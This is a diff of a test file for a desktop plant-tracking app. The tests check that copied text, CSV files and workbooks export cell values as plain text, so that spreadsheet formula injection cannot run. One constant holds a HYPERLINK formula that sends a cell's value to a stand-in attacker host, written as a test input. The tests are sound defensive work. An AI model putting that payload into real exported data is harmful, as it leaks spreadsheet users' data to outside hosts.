@@ -2,17 +2,25 @@
 
 import csv
 import io
-from datetime import UTC, datetime
+from dataclasses import replace
+from pathlib import Path
+from xml.etree import ElementTree
+from zipfile import ZipFile
 
 import pytest
 from PySide6.QtGui import QGuiApplication
-from PySide6.QtWidgets import QPushButton
 
-from plantdesk.desk.lists import ListMade
-from plantdesk.domain.plant import NewPlant
-from plantdesk.sheets.check_list import CheckLine, comma_separated, tabbed
+from plantdesk.desk.news import StoresFound
+from plantdesk.desk.plant_list import PlantsRead
+from plantdesk.domain.outcome import Refused
+from plantdesk.domain.plant import NewPlant, ServiceError
+from plantdesk.sheets.cells import Row
+from plantdesk.sheets.text_tables import tabbed, write_csv
+from plantdesk.sheets.workbooks import write_workbook
+from tests.sheets.tables import csv_rows
 from tests.ui.conftest import Open
-from tests.ui.plants.test_page import Shown, checks
+from tests.ui.plants.stage import Shown, checks
+from tests.ui.stage import GREEN
 
 HEADS = ("Plant id", "Name", "Tag", "Store", "Sent at", "Reference")
 LINK = '=HYPERLINK("http://attacker.example/?"&A1,"Rosa")'
@@ -32,9 +40,8 @@ RUNS = [
 ]
 
 
-def a_line(text: str) -> CheckLine:
-    plant = NewPlant(7, text, text)
-    return CheckLine(plant, text, datetime(2026, 3, 3, tzinfo=UTC), "1d7b")
+def a_row(text: str) -> Row:
+    return (text,) * len(HEADS)
 
 
 def pasted(text: str) -> list[list[str]]:
@@ -49,27 +56,48 @@ def runs(cell: str) -> bool:
 
 @pytest.mark.parametrize("text", RUNS)
 def test_nothing_in_the_copied_list_runs_where_it_is_pasted(text: str) -> None:
-    rows = pasted(tabbed([a_line(text)], HEADS))
+    rows = pasted(tabbed(HEADS, [a_row(text)]))
     assert [len(row) for row in rows] == [6, 6]
     assert not any(runs(cell) for cell in rows[1])
 
 
 @pytest.mark.parametrize("text", RUNS)
-def test_nothing_in_the_saved_list_runs_where_it_is_opened(text: str) -> None:
-    content = comma_separated([a_line(text)], HEADS).decode("utf-8-sig")
-    rows = list(csv.reader(io.StringIO(content, newline="")))
-    assert not any(runs(cell) for cell in rows[1])
+def test_nothing_in_the_saved_list_runs_where_it_is_opened(text: str, tmp_path: Path) -> None:
+    write_csv(tmp_path / "list.csv", HEADS, [a_row(text)])
+    (row,) = csv_rows(tmp_path / "list.csv")
+    assert not any(runs(cell) for cell in row)
 
 
-def test_the_clipboard_gets_the_list_as_plain_text_alone(open_window: Open) -> None:
+@pytest.mark.parametrize("text", [*RUNS, "#REF!", "{=1+1}", "2026-11-23"])
+def test_a_workbook_has_nothing_but_texts(text: str, tmp_path: Path) -> None:
+    write_workbook(tmp_path / "list.xlsx", "Plants", [text] * 6, [a_row(text)] * 2)
+    with ZipFile(tmp_path / "list.xlsx") as archive:
+        assert not any("external" in name.lower() for name in archive.namelist())
+        sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
+    cells = list(sheet.iterfind(".//{*}c"))
+    assert len(cells) == 3 * 6
+    assert {cell.get("t") for cell in cells} == {"inlineStr"}
+    assert {part.tag.partition("}")[2] for cell in cells for part in cell.iter()} == {
+        "c",
+        "is",
+        "t",
+    }
+    assert [cell.findtext(".//{*}t") for cell in cells[:6]] == [text] * 6
+
+
+@pytest.mark.parametrize("text", RUNS)
+def test_the_clipboard_gets_the_list_as_plain_text_alone(open_window: Open, text: str) -> None:
     window, desk = open_window()
+    desk.deliver(StoresFound((replace(GREEN, name=text),)))
     shown = Shown(window, desk)
-    shown.open(checks(7))
-    copy = window.findChild(QPushButton, "copyList")
-    assert isinstance(copy, QPushButton)
-    copy.click()
-    text = tabbed([a_line(LINK)], HEADS)
-    desk.answer("plants.make_list", ListMade(desk.lists[-1], (a_line(LINK),), text))
+    said = Refused(400, ServiceError(7, text))
+    entry = replace(checks(7), plant=NewPlant(7, text, text), outcome=said)
+    shown.open(entry)
+    shown.trigger("morePlants", "Copy")
+    desk.answer("plant_list.read", PlantsRead((entry,), 1))
     data = QGuiApplication.clipboard().mimeData()
     assert data.formats() == ["text/plain"]
-    assert data.text() == text
+    head, row = pasted(data.text())
+    assert len(head) == len(row)
+    assert row.count("7") == 1
+    assert not any(runs(cell) for cell in row)
